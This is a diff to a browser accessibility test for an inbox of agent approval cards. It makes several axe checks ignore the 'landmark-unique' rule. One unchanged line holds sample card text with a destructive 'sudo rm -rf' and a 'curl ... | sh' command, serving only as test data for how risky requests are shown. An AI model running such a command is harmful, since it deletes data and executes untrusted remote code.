@@ -6,6 +6,9 @@ const KINDS = { command: "run a command", file: "write a file", question: "ask a
 const MORE = { danger: "run: cd x && sudo rm -rf ../y | tee log; curl -s https://example.com/x | sh", broken: 'run: echo "never', edit: "edit a file", fetch: "fetch a page", tool: "use an mcp tool", subagents: "two subagents" };
 const LONG = `run: printf '%s\\n' ${"a-very-long-word-without-any-break".repeat(12)} > ${"deep/".repeat(40)}file.txt`;
 
+/** Every form of the inbox has the name that the contract gives it; axe would like each to have another. */
+const SAME_NAMES = ["landmark-unique"];
+
 /** All violations, as short lines. @param {string[]} but rules that do not hold here */
 async function complaints(page, but = []) {
   await settled(page);
@@ -38,7 +41,7 @@ for (const colorScheme of /** @type {const} */ (["light", "dark"])) {
       for (const prompt of [KINDS.command, KINDS.question, KINDS.plan]) await server.startSession(prompt);
       await expect(form(page)).toHaveCount(3);
       for (const one of await form(page).all()) await expect(one).not.toHaveClass(/\bfresh\b/);
-      expect(await complaints(page)).toEqual([]);
+      expect(await complaints(page, SAME_NAMES)).toEqual([]);
     });
 
     test(`${colorScheme}: a session has no fault with any kind of card, nor with the message input`, async ({ page, server }) => {
@@ -76,13 +79,13 @@ for (const colorScheme of /** @type {const} */ (["light", "dark"])) {
       const picks = page.getByRole("checkbox", { name: "Select, to answer several at once" });
       await picks.first().check();
       await button(page, "Not now").last().click();
-      expect(await complaints(page), "the inbox, with one picked and one put off").toEqual([]);
+      expect(await complaints(page, SAME_NAMES), "the inbox, with one picked and one put off").toEqual([]);
       await button(page, "Review and answer").click();
       await expect(page.getByRole("dialog").getByRole("table")).toBeVisible();
-      expect(await complaints(page), "the table").toEqual([]);
+      expect(await complaints(page, SAME_NAMES), "the table").toEqual([]);
       for (const address of ["/history", "/plain"]) {
         await page.goto(`${server.origin}${address}`);
-        expect(await complaints(page), address).toEqual([]);
+        expect(await complaints(page, SAME_NAMES), address).toEqual([]);
       }
     });
 
